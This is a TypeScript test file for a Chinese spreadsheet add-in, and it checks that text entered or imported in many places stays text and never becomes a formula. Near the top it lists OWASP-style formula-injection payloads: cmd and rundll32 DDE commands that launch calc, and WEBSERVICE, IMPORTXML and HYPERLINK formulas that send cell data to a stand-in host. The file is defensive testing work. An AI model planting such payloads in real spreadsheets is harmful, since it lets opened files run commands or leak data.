import { describe, expect, test } from "vitest";
import type { EntryMark, UnitState } from "../../src/actions/index";
import { createActions } from "../../src/actions/index";
import type { Scheme } from "../../src/core/index";
import { indicatorCodeOf, jiangsu2012 } from "../../src/core/index";
import { captureSheets } from "../../src/host/capture";
import type { SheetPlan } from "../../src/sheet/plan";
import { schemeFileText } from "../../src/workbook/scheme/schemeFile";
import { lastYearSheets } from "../support/lastYearFiles";
import { grounds } from "../support/recognition";
import { entryList } from "../../src/workbook/form/readForm";
import { readWorkbook, writeXlsx } from "../../src/xlsx/index";
import { inChinese, unitsOf, valueOf } from "../support/officeActions";
import { openBook, openEmpty } from "../support/officeBooks";
import { openpyxlAvailable, openWithOpenpyxl } from "../support/openpyxl";
import { picked, put, returnedFile } from "../support/returnedFiles";
import { useGlobalOffice } from "../support/useGlobalOffice";

/** What OWASP's page on CSV injection lists: what begins a formula, what may stand before it, and the commands that attackers write. */
const beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t+", "\r@", " =", "\u3000=", "\u00A0-", "＝", "＋", "－", "＠", " ＝", "\"=", "\";=", "'=", "',+", ";=", ",@", "|", "%", "{="];
const commands = [
  "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=HYPERLINK(\"http://x.example?\"&A1,\"看\")",
  "=WEBSERVICE(\"http://x.example\")", "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "=1+1\";=1+1", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=[外部.xlsx]Sheet1!A1",
];
/** Each is known by its mark wherever it comes to stand. */
const texts = [...beginnings.map((one) => `${one}1+1`), ...commands].map((one, index) => `${one}&"危${index}"`);
const office = useGlobalOffice();
const actions = createActions();
const names = ["南京市", "无锡市"];
const keys = entryList(jiangsu2012).map(({ key }) => key);
const indicators = [...new Set(keys.map((key) => indicatorCodeOf(key)))];

const units = async (): Promise<readonly UnitState[]> => unitsOf(valueOf(await actions.readState(inChinese)));
const sheetIdOf = async (name = "南京市"): Promise<string> => (await units()).find((unit) => unit.name === name)?.sheetId ?? "";

/** A line end in a file is one character, whichever of the two it was typed as. */
const oneLineEnd = (text: unknown): unknown => (typeof text === "string" ? text.replaceAll(/\r\n?/g, "\n") : text);

/** Which of these texts do not stand in a cell as they are, and every formula that has something of one besides the name of a sheet. */
function unsafe(wanted: readonly string[], plans: readonly SheetPlan[]) {
  const cells = plans.flatMap((plan) => plan.cells.flat());
  const standing = new Set(cells.map((cell) => (cell?.formula === undefined ? oneLineEnd(cell?.value) : undefined)));
  return {
    lost: wanted.filter((text) => !standing.has(oneLineEnd(text))),
    formulas: cells.flatMap((cell) => (cell?.formula?.replaceAll(/'(?:[^']|'')*'!/g, "").includes("危") === true ? [cell.formula] : [])),
  };
}

const safe = { lost: [], formulas: [] };

const together = (found: readonly ReturnType<typeof unsafe>[]) => ({ lost: found.flatMap(({ lost }) => lost), formulas: found.flatMap(({ formulas }) => formulas) });

/** What is wrong with a file as we read it, and as openpyxl reads it. */
async function unsafeInFile(bytes: Uint8Array, wanted: readonly string[]) {
  const read = await readWorkbook(bytes);
  if (!read.ok) throw new Error(read.problem.code);
  const ours = unsafe(wanted, read.plans);
  if (!openpyxlAvailable) return ours;
  const { sheets } = await openWithOpenpyxl(bytes);
  const marked = sheets.flatMap(({ cells }) => cells.flat()).filter(([value]) => typeof value === "string" && value.includes("危"));
  // openpyxl leaves a carriage return as files write it.
  const cells = marked.map(([value, type]) => (type === "f" ? { formula: String(value) } : { value: String(value).replaceAll("_x000D_", "\r") }));
  return together([ours, unsafe(wanted, [{ name: "openpyxl", cells: [cells] }])]);
}

/** What is wrong with the open workbook, and with the file it is saved as. */
async function unsafeInBook(wanted: readonly string[]) {
  const plans = captureSheets(office.host);
  return together([unsafe(wanted, plans), await unsafeInFile(await writeXlsx(plans), wanted)]);
}

/** The official scheme with these texts as the names of its indicators, their criteria, units and options. */
function schemeOf(wanted: readonly string[]): Scheme {
  let next = 0;
  const text = () => wanted[next++ % wanted.length] ?? "";
  const categories = jiangsu2012.categories.map((category) => ({
    ...category,
    items: category.items.map((item) => ({ ...item, indicators: item.indicators.map((indicator) => ({ ...indicator, criteria: text(), basis: text() })) })),
  }));
  return { ...jiangsu2012, id: "injected", categories };
}

describe("no text becomes a formula on its way into a workbook", () => {
  test("typed as 佐证材料 in 填报, sent out again as a template, and taken back", async () => {
    await openBook(office, names);
    const inputs = texts.map((after, index) => ({ key: keys[index] ?? "", column: "evidence", before: null, after }) as const);
    valueOf(await actions.enter({ sheetId: await sheetIdOf(), inputs }, inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
    const { files } = valueOf(await actions.exportTemplates({ units: ["南京市"] }, inChinese));
    expect(await unsafeInFile(files[0]?.bytes ?? new Uint8Array(), texts)).toEqual(safe);
  });

  test("typed as 自报值 where a number belongs, and overwritten, so that 操作记录 has it", async () => {
    await openBook(office, names);
    const sheetId = await sheetIdOf();
    const typed = texts.map((after, index) => ({ key: keys[index] ?? "", column: "reported", before: null, after }) as const);
    valueOf(await actions.enter({ sheetId, inputs: typed }, inChinese));
    valueOf(await actions.enter({ sheetId, inputs: typed.map(({ key, column, after }) => ({ key, column, before: after, after: 1 })) }, inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
  });

  test("brought by a city's returned file", async () => {
    await openBook(office, names);
    const file = await returnedFile("南京市", {}, (form) => {
      for (const [index, value] of texts.entries()) put(form, keys[index] ?? "", "evidence", { value });
    });
    valueOf(await actions.acceptReturns(valueOf(await actions.previewReturns([picked("南京市.xlsx", file)], inChinese)), inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
  });

  test("given as 核定理由, one by one and of a batch", async () => {
    await openBook(office, names);
    const sheetId = await sheetIdOf();
    const mark = (indicator: string, reason: string) => {
      const entries = keys.filter((key) => indicatorCodeOf(key) === indicator).slice(0, 1).map((key): EntryMark => ({ key, before: { verified: null, reason: "" }, verified: null, reason }));
      return { sheetId, indicator, before: "pending", state: "returned", entries } as const;
    };
    const report = valueOf(await actions.review(texts.map((reason, index) => mark(indicators[index] ?? "", reason)), inChinese));
    expect([report.refused, report.skipped]).toEqual([[], []]);
    const [other] = (await units()).slice(1);
    const cells = [{ sheetId: other?.sheetId ?? "", key: "7.1.leaderAbsences", before: null, after: 2 }];
    valueOf(await actions.enterBatch({ about: "7.1", side: "verified", cells, reason: `=1+1&"危批"`, isFinal: true }, inChinese));
    // Spaces around a reason are nobody's words.
    expect(await unsafeInBook([...texts.map((text) => text.trim()), `=1+1&"危批"`])).toEqual(safe);
  });

  test("pasted by indicator", async () => {
    await openBook(office, names);
    const sheetId = await sheetIdOf();
    valueOf(await actions.enterBatch({ about: "南京市", side: "reported", cells: texts.map((after, index) => ({ sheetId, key: keys[index] ?? "", before: null, after })), reason: "", isFinal: false }, inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
  });

  test("typed as contacts and notes of 报送跟踪", async () => {
    const cities = jiangsu2012.units;
    await openBook(office, cities);
    valueOf(await actions.startTracking(inChinese));
    const places = cities.flatMap((unit) => (["contact", "phone", "note"] as const).map((column) => ({ unit, column })));
    const edits = texts.slice(0, places.length).map((after, index) => ({ unit: places[index]?.unit ?? null, column: places[index]?.column ?? "note", before: "", after }));
    valueOf(await actions.editTracking(edits, inChinese));
    expect(await unsafeInBook(texts.slice(0, places.length))).toEqual(safe);
  });

  test("entered in 创新加分", async () => {
    await openBook(office, names);
    for (const [index, text] of texts.entries()) {
      const line = { unit: "南京市", item: text, field: "其他", ground: grounds[1], evidence: `${text}证`, applied: 1, recognised: null, state: "pending" } as const;
      if (index % 4 === 0) valueOf(await actions.saveAward({ row: null, before: null, line }, inChinese));
    }
    expect(await unsafeInBook(texts.filter((_text, index) => index % 4 === 0).flatMap((text) => [text.trim(), `${text}证`.trim()]))).toEqual(safe);
  });

  test("told by a scheme, from a file or a draft, on forms and in 方案草案", async () => {
    await openEmpty(office);
    const scheme = schemeOf(texts);
    valueOf(await actions.startDraft(scheme, inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
    const draft = valueOf(await actions.readDraft());
    expect(draft?.draft.scheme?.id).toBe("injected");
    await openEmpty(office);
    valueOf(await actions.createWorkbook({ scheme, year: 2012, units: names }, inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
  });
});

describe("what other files bring stays text", () => {
  test("a scheme's file, on the forms that are made by it", async () => {
    await openEmpty(office);
    const file = picked("方案.json", new TextEncoder().encode(schemeFileText(schemeOf(texts))));
    const read = valueOf(await actions.readSchemeFile(file, inChinese));
    if (!read.ok) throw new Error(read.messages.join("；"));
    valueOf(await actions.createWorkbook({ scheme: read.scheme, year: 2012, units: names }, inChinese));
    expect(await unsafeInBook(texts)).toEqual(safe);
  });

  test("workbooks of former years, on 与上年对比 and 历年对比", async () => {
    // As names of sheets can be: thirty-one characters, some of them not, and no quote at either end.
    const cities = texts.filter((text) => text.length <= 31 && text.trim() === text && !/[[\]:*?/\\\t\r\n]|^'|^"/.test(text));
    expect(cities.length).toBeGreaterThan(5);
    await openBook(office, names);
    const file = async (year: number) => picked(`${year}.xlsx`, await writeXlsx(lastYearSheets({ year, units: ["南京市", ...cities] })));
    const { comparison } = valueOf(await actions.previewLastYear(await file(2011), inChinese));
    if (comparison === null) throw new Error("nothing to compare");
    valueOf(await actions.writeComparison(comparison, inChinese));
    expect(await unsafeInBook([])).toEqual(safe);
    const years = valueOf(await actions.previewYears([await file(2011), await file(2010)], inChinese));
    valueOf(await actions.writeYears(years, inChinese));
    expect(await unsafeInBook([])).toEqual(safe);
    const written = captureSheets(office.host).flatMap(({ cells }) => cells.flat()).map((cell) => String(cell?.value ?? "")).join("\n");
    for (const city of cities) expect(written).toContain(city);
  });
});

describe("names of cities that would be formulas", () => {
  test.each(texts.slice(0, 2))("%j is written as text", async (text) => {
    await openEmpty(office);
    const name = text.slice(0, 20);
    valueOf(await actions.createWorkbook({ scheme: jiangsu2012, year: 2012, units: ["南京市", name] }, inChinese));
    expect(await unsafeInBook([name])).toEqual(safe);
  });
});
